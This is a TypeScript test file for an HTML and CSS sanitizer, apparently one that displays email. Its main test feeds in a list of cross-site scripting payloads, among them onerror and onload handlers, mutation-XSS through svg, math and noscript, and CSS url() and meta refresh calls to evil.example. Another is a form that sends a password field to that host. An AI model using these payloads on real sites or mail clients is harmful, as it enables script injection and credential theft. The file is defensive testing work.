import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Parser } from 'htmlparser2'
import { cleanHtml } from './clean-html.ts'
import { cleanStyle } from './clean-style.ts'
import { markHidden, visibleLine } from './safe-text.ts'

const body = (html: string) => /<body>(.*)<\/body>/s.exec(cleanHtml(html).document)![1]!

/** What a page of ours may hold; anything else is a hole. */
function assertHarmless(document: string, about: string): void {
  const allowed =
    /^(?:abbr|address|article|aside|b|bdi|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/
  const inside = document.slice(document.indexOf('<body>') + 6, document.lastIndexOf('</body>'))
  const parser = new Parser({
    onopentag(name, attributes) {
      assert.match(name, allowed, about)
      for (const [attribute, value] of Object.entries(attributes)) {
        assert.match(
          attribute,
          /^(?:align|valign|width|height|bgcolor|color|border|cell(?:padding|spacing)|colspan|rowspan|size|face|start|type|lang|dir|style|class|alt|src)$/,
          `${about}: ${attribute}`,
        )
        if (attribute === 'src') assert.match(value, /^data:image\/(?:png|gif|jpeg|webp);base64,/, about)
        if (attribute === 'class') assert.match(value, /^mw-/, about)
        if (attribute === 'style') assert.doesNotMatch(value, /url|expression|@|\\|position|content/i, about)
      }
    },
    oncomment: () => assert.fail(`${about}: a comment`),
    onprocessinginstruction: () => assert.fail(`${about}: a declaration`),
  })
  parser.end(inside)
}

test('scripts, frames, forms, styles, meta and other languages leave nothing behind', () => {
  const attacks = [
    '<script>alert(1)</script>a',
    '<ScRiPt src=//evil.example/x></sCrIpT>a',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>a',
    '<svg><style><img src=x onerror=alert(1)></style></svg>a',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>a',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>a',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>a',
    '<object data="data:text/html,x"></object><embed src=x>a',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">a',
    '<link rel=stylesheet href=https://evil.example/x.css>a',
    '<style>@import url(https://evil.example/x); input[value^=a]{background:url(https://evil.example/a)}</style>a',
    '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button>Go</button></form>a',
    '<img src=x onerror=alert(1)>a',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">a',
    '<p style="background:url(https://evil.example/p)">a</p>',
    '<p style="background:u\\72l(https://evil.example/p)">a</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">a</p>',
    '<td background=https://evil.example/b>a',
    '<video poster=https://evil.example/p autoplay></video>a',
    '<textarea><img src=x onerror=alert(1)></textarea>a',
    '<title><img src=x onerror=alert(1)></title>a',
    '<xmp><img src=x onerror=alert(1)></xmp>a',
    '<!--[if mso]><img src=https://evil.example/m><![endif]--><!-- --!><img src=x onerror=alert(1)>a',
    '<a href="javascript:alert(1)" onclick=alert(1)>a</a>',
    '<p/onclick=alert(1)//x>a',
    '<details open ontoggle=alert(1)>a</details>',
    '<dialog open>a</dialog><slot>a</slot><custom-element onload=x>a</custom-element>',
    '<body onload=alert(1) background=https://evil.example>a',
    '"><img src=x onerror=alert(1)>a',
    '<p class="mw-link" id="root" name="x" data-x="1">a</p>',
  ]
  for (const attack of attacks) {
    const { document } = cleanHtml(attack)
    assertHarmless(document, attack)
    const shown = body(attack)
    assert.doesNotMatch(
      shown,
      /<[^>]*\bon\w+=|<[^>]*javascript:|<[^>]*evil\.example|<script|<style|<meta|<base/i,
      attack,
    )
    assert.match(shown, /a/, attack)
  }
})

test('a link shows where it leads and cannot be followed', () => {
  const shown = body('<a href="https://evil.example/login?x=1&amp;y=2">https://bank.example</a>')
  assert.equal(
    shown,
    '<span class="mw-link">https://bank.example</span> <span class="mw-target">[hxxps://evil[.]example/login?x=1&amp;y=2]</span>',
  )
  assert.doesNotMatch(body('<a href="https://x.example"><img src=https://x.example/i></a>'), /<a |<img/)
})

test('bidirectional and zero-width characters are seen, emoji stay', () => {
  assert.equal(body('pay \u202egpj.exe\u202c now\u200b\u200b\u200b'), 'pay [U+202E]gpj.exe[U+202C] now[U+200B ×3]')
  assert.equal(body('&#x202e;x'), '[U+202E]x')
  assert.equal(
    markHidden('\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u2764\ufe0f'),
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u2764\ufe0f',
  )
  assert.equal(visibleLine(`a\u0000\u001b[2J\r\nb${'x'.repeat(20_000)}`, 100).length, 100)
  assert.equal(visibleLine('half \ud800', 100), 'half \ufffd')
})

test('what people write mail with stays', () => {
  const kept =
    '<table width="600" bgcolor="#ffffff"><tbody><tr><td align="center" style="color: #333; padding: 4px 8px; font-family: Arial, sans-serif"><b>Hello</b><br>you</td></tr></tbody></table>'
  assert.equal(body(kept), kept.replace('<br>', '<br>'))
  assert.match(body('<img alt="Logo" src="https://x.example/l.png">'), /\[image: Logo\]/)
  assert.match(body('<img src="data:image/png;base64,iVBORw0KGgo=">'), /<img alt="" src="data:image\/png;base64,/)
})

test('styles: declarations of the list only, whatever the rest tries', () => {
  assert.equal(
    cleanStyle('COLOR:red; position:absolute; margin:-50px; display:flex; width:10px'),
    'color: red; width: 10px',
  )
  for (const bad of [
    'color:url(x)',
    'color:var(--x)',
    'color:expression(1)',
    'color:re/**/d',
    'co\\6cor:red',
    'color:red}</style>',
    'background:red',
    'color',
    ':x',
  ])
    assert.equal(cleanStyle(bad), null, bad)
  assert.equal(cleanStyle('color: rgba(1, 2, 3, .5)'), 'color: rgba(1, 2, 3, .5)')
})

test('size, depth and count are bounded', () => {
  const deep = cleanHtml('<div>'.repeat(100_000) + 'x')
  assert.ok(deep.isCut && deep.document.length < 20_000)
  const wide = cleanHtml('<p>x</p>'.repeat(500_000))
  assert.ok(wide.isCut && wide.document.length < 2_000_000)
  assert.ok(cleanHtml(`<p title="${'x'.repeat(3_000_000)}`).isCut)
  assertHarmless(cleanHtml('<'.repeat(100_000)).document, 'many <')
})

test('random markup never leaves the list (seeded)', () => {
  let seed = 20_261_122
  const next = (below: number) => (seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff) % below
  const pieces = [
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '=',
    ' ',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<?',
    '&lt;',
    '&#60;',
    '&#x3c',
    'script',
    'style',
    'svg',
    'math',
    'a href=javascript:x',
    'img src=x onerror=y',
    'p style="color:red;background:url(x)"',
    'table',
    'td',
    'title',
    'textarea',
    'noscript',
    'select',
    'template',
    'b',
    '\0',
    '\u202e',
    '\ud800',
    'body onload=x',
    '\n',
    'x',
    '`',
    '<a href="',
    '<img src="data:image/png;base64,AA==',
  ]
  for (let round = 0; round < 3_000; round += 1) {
    const text = Array.from({ length: 1 + next(40) }, () => pieces[next(pieces.length)]).join('')
    assertHarmless(cleanHtml(text).document, JSON.stringify(text))
  }
})
